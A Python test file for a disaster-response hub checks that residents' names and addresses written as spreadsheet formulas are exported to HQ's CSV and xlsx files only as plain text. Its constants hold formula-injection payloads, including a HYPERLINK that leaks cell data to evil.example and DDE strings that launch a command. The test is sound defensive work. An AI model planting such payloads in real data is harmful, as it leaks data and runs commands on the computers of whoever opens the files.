"""Formula injection at the hub: residents whose name or address is typed like a spreadsheet formula
(`=…`, `+…`, `-…`, `@…`) reach HQ's files (/v1/hq/anpi-list/export and `anpi hub export anpi-list`,
csv / cp932 / xlsx and the replacement report) only as text: an apostrophe in CSV, a string
cell (never a formula) in xlsx. Real hub (app.hub_app under uvicorn) on PostgreSQL.
"""
from __future__ import annotations

import csv
from pathlib import Path

import httpx
from typer.testing import CliRunner

from app.cli import app as anpi
from app.hub_app import create_app
from sync.hub import registry
from tests.app.test_export_formulas import _assert_csv_safe, _assert_xlsx_safe
from tests.hub.conftest import PgHub
from tests.hub.helpers import A, add_towns, hq, store_registry
from tests.sync.helpers import ThreadedServer

SURNAME = '=HYPERLINK("http://evil.example/?"&A1)'
GIVEN = "+cmd|' /C calc'!A0"
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
ADDRESS2 = "-2+3+cmd|' /C calc'!A0"


def _poison(town_registry: Path, residents: list[dict[str, str]]) -> tuple[str, str]:
    """Two residents typed like formulas (one of them with 𠮷 so the cp932 report names them)."""
    a = next(p for p in residents if p["氏"] and p["名"] and not p["閲覧制限"])
    b = next(p for p in residents if p["氏"] and p["名"] and not p["閲覧制限"] and p is not a)
    a["氏"], a["名"], a["住所"] = SURNAME + "𠮷", GIVEN, ADDRESS
    b["住所"] = ADDRESS2
    with town_registry.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(residents[0]))
        w.writeheader()
        w.writerows(residents)
    return a["宛名番号"], b["宛名番号"]


def test_hub_exports_never_hold_a_live_formula(pg_hub: PgHub, tmp_path: Path) -> None:
    key = registry.DataKey.generate()
    app = create_app(pg_hub.url, data_key=key)
    engine = app.state.engine
    a, _b = add_towns(engine, tmp_path, residents=60, evacuees=2)
    _poison(a.registry, a.residents)
    store_registry(engine, key, a)
    try:
        with ThreadedServer(app) as srv, httpx.Client(base_url=srv.url, timeout=60) as http:
            for query, enc in (("format=csv", "utf-8-sig"), ("format=csv&encoding=cp932", "cp932")):
                r = hq(http, a.hq_token, "GET", "/v1/hq/anpi-list/export?" + query)
                assert r.status_code == 200, r.text
                _assert_csv_safe(r.content.decode(enc), (ADDRESS, ADDRESS2, GIVEN))
            r = hq(http, a.hq_token, "GET", "/v1/hq/anpi-list/export?format=csv&encoding=cp932&report=1")
            assert r.status_code == 200, r.text
            _assert_csv_safe(r.content.decode("utf-8-sig"))
            r = hq(http, a.hq_token, "GET", "/v1/hq/anpi-list/export?format=xlsx")
            assert r.status_code == 200, r.text
            _assert_xlsx_safe(r.content, (ADDRESS, ADDRESS2, GIVEN))
        env = {"ANPI_HUB_DATABASE_URL": pg_hub.url, "ANPI_HUB_DATA_KEY": key.to_text()}
        runner = CliRunner()
        for fmt, name in (("csv", "list.csv"), ("xlsx", "list.xlsx")):
            out = tmp_path / name
            res = runner.invoke(anpi, ["hub", "export", "anpi-list", "--municipality", A, "--format", fmt,
                                       "--out", str(out)], env=env)
            assert res.exit_code == 0, res.output
            if fmt == "csv":
                _assert_csv_safe(out.read_text(encoding="utf-8-sig"), (ADDRESS, ADDRESS2, GIVEN))
            else:
                _assert_xlsx_safe(out.read_bytes(), (ADDRESS, ADDRESS2, GIVEN))
    finally:
        engine.dispose()
